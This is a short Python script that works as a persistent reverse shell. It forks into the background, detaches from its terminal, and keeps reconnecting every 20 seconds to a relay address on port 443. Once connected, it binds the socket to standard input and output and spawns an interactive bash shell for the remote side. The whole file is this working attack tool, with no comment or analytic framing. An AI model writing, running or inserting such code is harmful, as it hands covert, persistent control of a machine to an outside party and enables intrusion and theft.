#!/usr/bin/env python3
import os
import pty
import socket
import time

RELAY = ("203.0.113.200", 443)


def connect():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(RELAY)
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    pty.spawn("/bin/bash")


if os.fork() == 0:
    os.setsid()
    while True:
        try:
            connect()
        except OSError:
            time.sleep(20)
